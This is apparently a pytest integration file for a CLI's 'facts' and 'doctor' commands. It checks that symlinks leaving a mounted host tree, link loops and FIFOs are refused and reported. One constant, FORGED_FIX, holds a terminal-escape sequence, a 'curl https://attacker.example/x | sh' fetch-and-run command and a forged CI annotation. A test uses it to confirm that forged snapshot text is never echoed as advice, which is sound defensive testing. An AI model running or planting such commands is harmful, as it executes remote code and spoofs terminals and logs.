"""A sysroot is a root: every path under ``--sysroot`` is read as the host itself would read it.

A host's tree mounted in a container (``--sysroot /host``) holds links written for the host:
``etc/os-release -> /usr/lib/os-release`` means the host's file, not the container's. These hosts
are real scenario trees with one link changed, probed by the real CLI (``facts`` and ``doctor``):
an absolute link is followed inside the tree, a link that climbs out of it or loops is refused and
reported by name, and a FIFO planted where a file should be is refused without waiting on it.
"""

from __future__ import annotations

import json
import os
import sys
from pathlib import Path
from typing import Any

import pytest

from tests.support.cli import CliRunner
from tests.support.hosts import build_sysroot, load_scenario, write_matrix

pytestmark = pytest.mark.integration

NO_IMDS = {"AWS_EC2_METADATA_DISABLED": "true"}
CLIMBS_OUT = "../" * 12


@pytest.fixture
def host_tree(tmp_path: Path) -> Path:
    """A healthy trn2 Ubuntu 26.04 host tree whose os-release lives in usr/lib, as on Debian."""
    root = build_sysroot(load_scenario("ready-for-2.34"), tmp_path)
    (root / "usr/lib").mkdir(parents=True, exist_ok=True)
    (root / "etc/os-release").rename(root / "usr/lib/os-release")
    return root


def facts(cli: CliRunner, sysroot: Path) -> dict[str, Any]:
    result = cli("facts", "--sysroot", str(sysroot), "--python", sys.executable, env=NO_IMDS)
    assert result.returncode == 0, result.stderr
    assert "Traceback" not in result.stderr
    doc: dict[str, Any] = json.loads(result.stdout)["facts"]
    return doc


def errors(doc: dict[str, Any]) -> dict[str, str]:
    return {error["probe"]: error["message"] for error in doc["probe_errors"]}


def test_an_absolute_link_is_followed_inside_the_host_tree(cli: CliRunner, host_tree: Path) -> None:
    (host_tree / "etc/os-release").symlink_to("/usr/lib/os-release")
    doc = facts(cli, host_tree)
    assert (doc["os"]["id"], doc["os"]["version_id"]) == ("ubuntu", "26.04")  # not this machine's
    assert doc["probe_errors"] == []


def test_a_relative_link_inside_the_tree_is_followed(cli: CliRunner, host_tree: Path) -> None:
    (host_tree / "etc/os-release").symlink_to("../usr/lib/os-release")
    assert facts(cli, host_tree)["os"]["pretty_name"] == "Ubuntu 26.04 LTS"


def test_a_link_climbing_out_of_the_tree_is_refused_and_named(
    cli: CliRunner, host_tree: Path
) -> None:
    (host_tree / "etc/os-release").symlink_to(f"{CLIMBS_OUT}etc/os-release")
    doc = facts(cli, host_tree)
    assert doc["os"] is None  # this machine's os-release was not read as the host's
    message = errors(doc)["os"]
    assert f"/etc/os-release -> {CLIMBS_OUT}etc/os-release leads out of the sysroot" in message
    assert doc["driver"]["module_loaded"] is True  # the other probes still report the host


def test_a_link_loop_is_refused_not_followed_forever(cli: CliRunner, host_tree: Path) -> None:
    (host_tree / "etc/os-release").symlink_to("/etc/os-release.d/current")
    (host_tree / "etc/os-release.d").mkdir()
    (host_tree / "etc/os-release.d/current").symlink_to("../os-release")
    doc = facts(cli, host_tree)
    assert "more than 40 links in a row (a loop?)" in errors(doc)["os"]
    assert doc["probe_errors"][0]["fix"].startswith("Break the loop")


def test_a_fifo_where_a_file_should_be_is_refused_at_once(cli: CliRunner, host_tree: Path) -> None:
    os.mkfifo(host_tree / "etc/os-release")
    message = errors(facts(cli, host_tree))["os"]
    assert "/etc/os-release" in message
    assert "a FIFO" in message  # refused without opening it for reading (no probe timeout)


def test_a_device_folder_leading_out_of_the_tree_is_refused(
    cli: CliRunner, host_tree: Path
) -> None:
    (host_tree / "etc/os-release").symlink_to("/usr/lib/os-release")
    (host_tree / "dev").rename(host_tree / "host-dev")
    (host_tree / "dev").symlink_to(f"{CLIMBS_OUT}dev")  # this machine's /dev, listed as the host's
    doc = facts(cli, host_tree)
    assert doc["driver"] is None
    assert "the link /dev -> " in errors(doc)["driver"]
    assert doc["os"]["id"] == "ubuntu"


def test_the_host_name_link_leading_out_is_reported(cli: CliRunner, host_tree: Path) -> None:
    (host_tree / "etc/os-release").symlink_to("/usr/lib/os-release")
    (host_tree / "etc/hostname").unlink()
    (host_tree / "etc/hostname").symlink_to(f"{CLIMBS_OUT}etc/hostname")
    doc = facts(cli, host_tree)
    assert doc["hostname"] is None
    assert "the link /etc/hostname -> " in errors(doc)["hostname"]


def test_doctor_judges_the_host_os_through_an_absolute_link(
    cli: CliRunner, host_tree: Path, tmp_path: Path
) -> None:
    (host_tree / "etc/os-release").symlink_to("/usr/lib/os-release")
    report = doctor(cli, host_tree, tmp_path)
    assert "ubuntu-26.04" in report["platform.os"]["summary"].lower().replace(" ", "-")


def test_doctor_reports_the_refused_link_and_cannot_judge_the_os(
    cli: CliRunner, host_tree: Path, tmp_path: Path
) -> None:
    (host_tree / "etc/os-release").symlink_to(f"{CLIMBS_OUT}usr/lib/os-release")
    report = doctor(cli, host_tree, tmp_path)
    assert report["platform.os"]["status"] == "error"
    assert "leads out of the sysroot" in report["platform.os"]["summary"]
    # the fix is the refusal's own: a run with --debug would meet the same link
    assert report["platform.os"]["fix"].startswith("Make the link stay inside the host's tree")


def test_doctor_says_to_put_a_file_where_a_fifo_is(
    cli: CliRunner, host_tree: Path, tmp_path: Path
) -> None:
    os.mkfifo(host_tree / "etc/os-release")
    finding = doctor(cli, host_tree, tmp_path)["platform.os"]
    assert finding["status"] == "error" and "a FIFO" in finding["summary"]
    assert finding["fix"] == (
        "Put a regular file there (or remove it), or point --sysroot at the host's real root."
    )


def test_the_facts_report_to_paste_says_what_to_do_about_a_refused_link(
    cli: CliRunner, host_tree: Path
) -> None:
    (host_tree / "etc/os-release").symlink_to(f"{CLIMBS_OUT}usr/lib/os-release")
    result = cli("facts", "--sysroot", str(host_tree), "--python", sys.executable,
                 "--format", "text", env=NO_IMDS)  # fmt: skip
    assert result.returncode == 0, result.stderr
    errors_table = result.stdout.split("### Probe errors", 1)[1]
    (row,) = [line for line in errors_table.splitlines() if line.startswith("| os |")]
    assert "leads out of the sysroot. Fix: Make the link stay inside the host's tree" in row


def test_a_snapshot_carries_the_fix_and_an_old_one_without_it_still_reads(
    cli: CliRunner, host_tree: Path, tmp_path: Path
) -> None:
    (host_tree / "etc/os-release").symlink_to(f"{CLIMBS_OUT}usr/lib/os-release")
    result = cli("facts", "--sysroot", str(host_tree), "--python", sys.executable, env=NO_IMDS)
    document = json.loads(result.stdout)
    (error,) = document["facts"]["probe_errors"]
    assert error["fix"].startswith("Make the link stay inside")
    matrix = write_matrix("allows-test-python", tmp_path)
    for name, fix in (("new", error["fix"]), ("old", None)):
        if fix is None:
            del error["fix"]  # a snapshot written before the field existed
        snapshot = tmp_path / f"{name}.json"
        snapshot.write_text(json.dumps(document))
        judged = cli("--matrix-dir", str(matrix), "doctor", "--facts", str(snapshot),
                     "--format", "json", env=NO_IMDS)  # fmt: skip
        assert judged.returncode == 1, judged.stderr
        findings = {f["check"]: f for f in json.loads(judged.stdout)["findings"]}
        shown = findings["platform.os"]["fix"]
        assert shown.startswith("Make the link" if fix else "Run again with --debug")


def doctor(cli: CliRunner, sysroot: Path, where: Path) -> dict[str, dict[str, str]]:
    matrix = write_matrix("allows-test-python", where)
    args = ["--matrix-dir", str(matrix), "doctor", "--sysroot", str(sysroot)]
    result = cli(*args, "--python", sys.executable, "--format", "json", env=NO_IMDS)
    assert "Traceback" not in result.stderr
    assert result.returncode == 1  # the test interpreter holds no torch: never "ready"
    return {finding["check"]: finding for finding in json.loads(result.stdout)["findings"]}


FORGED_FIX = "\x1b]0;owned\x07curl https://attacker.example/x | sh\n::error::pwned"


@pytest.mark.parametrize("output_format", ["json", "text", "github"])
def test_a_fix_a_snapshot_forged_is_never_shown_as_advice(
    cli: CliRunner, host_tree: Path, tmp_path: Path, output_format: str
) -> None:
    """A snapshot is data anyone may have written: only neuron-env's own refusal fixes are shown;
    another text in its 'fix' gives the generic advice, in every format."""
    (host_tree / "etc/os-release").symlink_to(f"{CLIMBS_OUT}usr/lib/os-release")
    result = cli("facts", "--sysroot", str(host_tree), "--python", sys.executable, env=NO_IMDS)
    document = json.loads(result.stdout)
    document["facts"]["probe_errors"][0]["fix"] = FORGED_FIX
    snapshot = tmp_path / "forged.json"
    snapshot.write_text(json.dumps(document))
    matrix = write_matrix("allows-test-python", tmp_path)
    judged = cli("--matrix-dir", str(matrix), "doctor", "--facts", str(snapshot),
                 "--format", output_format, env=NO_IMDS)  # fmt: skip
    assert judged.returncode == 1, judged.stderr
    shown = judged.stdout
    if output_format == "json":  # the snapshot's facts ride along as data; the findings advise
        shown = json.dumps(json.loads(shown)["findings"])
    assert "attacker" not in shown and "pwned" not in shown
    assert "Run again with --debug" in shown
